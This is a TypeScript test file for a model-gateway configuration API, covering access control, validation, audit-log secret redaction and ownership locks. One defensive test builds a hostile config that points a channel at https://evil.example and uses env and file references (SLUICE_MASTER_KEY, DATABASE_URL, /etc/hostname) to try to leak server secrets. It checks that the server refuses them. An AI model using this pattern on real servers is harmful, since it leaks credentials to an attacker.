import type { AuditEntry } from '@sluice/contract/audit'
import type { Channel } from '@sluice/contract/channel'
import type {
  AppliedConfiguration,
  ConfigurationPlan,
  ExportedConfiguration,
} from '@sluice/contract/configuration/plan'
import { loadOptions } from '@sluice/store/snapshots/options'
import { type ManagementBench, openManagementBench, type TestCaller } from '@sluice/testkit/management-bench'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'

const FILE = `
version: 1
owner: team
options:
  RetryTimes: 3
  Groups: { default: {}, vip: { ratio: 0.5 } }
channels:
  - name: main
    type: OpenAI
    key: \${env:SLUICE_SECRET_MAIN}
    models: [gpt-4o]
  - name: fixed
    type: OpenAI
    key: \${env:SLUICE_SECRET_MAIN}
    models: [gpt-4o]
    status: disabled
`

let bench: ManagementBench
let root: TestCaller
beforeEach(async () => {
  process.env['SLUICE_SECRET_MAIN'] = 'sk-canary'
  bench = await openManagementBench()
  root = await bench.addCaller('root', 100)
})
afterEach(async () => {
  delete process.env['SLUICE_SECRET_MAIN']
  await bench.close()
})

const call = <D>(method: string, path: string, body?: unknown) =>
  bench.ask<D>(method, path, { as: root, ...(body === undefined ? {} : { body }) })
const apply = (document: string, more: object = {}) =>
  call<AppliedConfiguration>('POST', '/api/config/apply', { document, ...more })
const channels = async () => (await call<Channel[]>('GET', '/api/channel/?size=100')).data ?? []
const named = async (name: string): Promise<Channel> => {
  const channel = (await channels()).find((each) => each.name === name)
  if (channel === undefined) throw new Error(`no channel ${name}`)
  return channel
}
const OWNED = { status: 409, success: false, code: 'owned_by_file' }

describe('a configuration file over the API', () => {
  test('is planned and applied for root, and for no one else', { tags: 'S11' }, async () => {
    const admin = await bench.addCaller('ann', 10)
    for (const [method, path] of [
      ['GET', '/api/config/export'],
      ['GET', '/api/config/schema'],
      ['POST', '/api/config/plan'],
      ['POST', '/api/config/apply'],
      ['POST', '/api/config/release'],
    ] as const) {
      const body = method === 'POST' ? { body: { document: FILE, owner: 'team' } } : {}
      expect(await bench.ask(method, path, { as: admin, ...body })).toMatchObject({ status: 403, success: false })
    }
    const plan = await call<ConfigurationPlan>('POST', '/api/config/plan', { document: FILE })
    expect(plan.data?.changes).toHaveLength(4)
    expect(await apply(FILE, { state: plan.data?.state })).toMatchObject({ success: true, data: { unchanged: 0 } })
    expect(await apply(FILE, { state: plan.data?.state })).toMatchObject({ status: 409, code: 'configuration_stale' })
    expect(await apply(FILE)).toMatchObject({ data: { changes: [], unchanged: 4 } })
    expect((await call<{ title: string }>('GET', '/api/config/schema')).data?.title).toBe('Sluice configuration file')
  })

  test('that is wrong is refused with line and column', async () => {
    expect(await apply(FILE.replace('RetryTimes: 3', 'RetryTimes: 300'))).toMatchObject({
      success: false,
      code: 'configuration_invalid',
      message: 'line 5, column 15: options.RetryTimes must be an integer from 0 to 10',
    })
    expect(await loadOptions(bench.database.kysely)).toEqual(new Map())
  })

  test('cannot have a variable or a file of the server sent anywhere', { tags: 'S20' }, async () => {
    for (const reference of ['env:PATH', 'env:SLUICE_MASTER_KEY', 'env:DATABASE_URL', 'file:/etc/hostname']) {
      const stolen = `version: 1\nchannels:\n  - name: evil\n    type: 50\n    base_url: https://evil.example\n    models: [m]\n    key: \${${reference}}\n`
      const refused = await apply(stolen)
      expect(refused).toMatchObject({ success: false, code: 'configuration_invalid' })
      expect(refused.message).toMatch(/may (only|not) refer to/)
    }
    expect(await channels()).toEqual([])
  })

  test(
    'leaves no secret in replies and in the audit log, also when it holds one by mistake',
    { tags: 'S20' },
    async () => {
      const replies: unknown[] = [await apply(FILE)]
      replies.push(await apply(FILE.replace('${env:SLUICE_SECRET_MAIN}', 'sk-canary-literal')))
      replies.push(await call<ExportedConfiguration>('GET', '/api/config/export'))
      const entries = (await call<AuditEntry[]>('GET', '/api/audit/?size=100')).data ?? []
      expect(entries.map(({ action, target_kind: kind }) => `${action} ${kind}`)).toContain(
        'POST /api/config/apply channel',
      )
      expect(entries.every(({ actor_name: name }) => name === 'root')).toBe(true)
      const rows = await bench.database.kysely.selectFrom('audit').selectAll().execute()
      expect(JSON.stringify([replies, entries, rows])).not.toContain('canary')
    },
  )
})

describe('what a configuration file owns', () => {
  beforeEach(async () => {
    expect((await apply(FILE)).success).toBe(true)
  })

  test('says so in lists', async () => {
    expect(await named('main')).toMatchObject({ managed_by: 'team', managed_status: false })
    expect(await named('fixed')).toMatchObject({ managed_by: 'team', managed_status: true })
    const options = await bench.ask<object>('GET', '/api/option/', { as: root })
    expect(options).toMatchObject({
      managed_by: { RetryTimes: 'team', Groups: 'team', GroupRatio: 'team', AutoGroups: 'team' },
    })
  })

  test('cannot be changed by any other call', async () => {
    const { id } = await named('main')
    expect(await call('PUT', '/api/channel/', { id, name: 'other' })).toMatchObject(OWNED)
    expect(await call('PUT', '/api/channel/', { id, priority: 7 })).toMatchObject(OWNED)
    expect(await call('DELETE', `/api/channel/${id}`)).toMatchObject(OWNED)
    expect(await call('PUT', `/api/channel/pricing/${id}`, { model_configs: {} })).toMatchObject(OWNED)
    const keys = await call<{ fingerprint: string }[]>('GET', `/api/channel/${id}/keys`)
    expect(await call('DELETE', `/api/channel/${id}/keys/${keys.data?.[0]?.fingerprint}`)).toMatchObject(OWNED)
    for (const key of ['RetryTimes', 'Groups', 'GroupRatio', 'UserUsableGroups']) {
      expect(await call('PUT', '/api/option/', { key, value: '{}' })).toMatchObject(OWNED)
    }
    expect(
      await call('PUT', '/api/option/', [
        { key: 'Notice', value: 'x' },
        { key: 'RetryTimes', value: '1' },
      ]),
    ).toMatchObject(OWNED)
    expect((await call('PUT', '/api/option/', { key: 'Notice', value: 'x' })).success).toBe(true)
    expect(await named('main')).toMatchObject({ name: 'main', priority: 0 })
  })

  test('can be switched by people where the file does not say whether it is on', async () => {
    const [main, fixed] = [await named('main'), await named('fixed')]
    expect(await call('PUT', '/api/channel/?status_only=true', { id: main.id, status: 2 })).toMatchObject({
      success: true,
    })
    expect(await call('PUT', '/api/channel/?status_only=true', { id: fixed.id, status: 1 })).toMatchObject(OWNED)
    expect(await call('DELETE', '/api/channel/disabled')).toMatchObject({ data: 0 })
    expect(await channels()).toHaveLength(2)
    expect((await call<ConfigurationPlan>('POST', '/api/config/plan', { document: FILE })).data?.changes).toEqual([])
  })

  test('can be read, tested and copied, and the copy belongs to no file', async () => {
    const { id } = await named('main')
    expect(await call('GET', `/api/channel/test/${id}`)).toMatchObject({ success: true })
    expect(await call('POST', `/api/channel/${id}/duplicate`)).toMatchObject({
      success: true,
      data: { managed_by: '' },
    })
  })

  test('can be changed again once it is given back', async () => {
    expect(await call('POST', '/api/config/release', { owner: 'team' })).toMatchObject({ success: true, data: 4 })
    const { id } = await named('main')
    expect(await call('PUT', '/api/channel/', { id, priority: 7 })).toMatchObject({ success: true })
    expect((await call('PUT', '/api/option/', { key: 'RetryTimes', value: '1' })).success).toBe(true)
  })
})
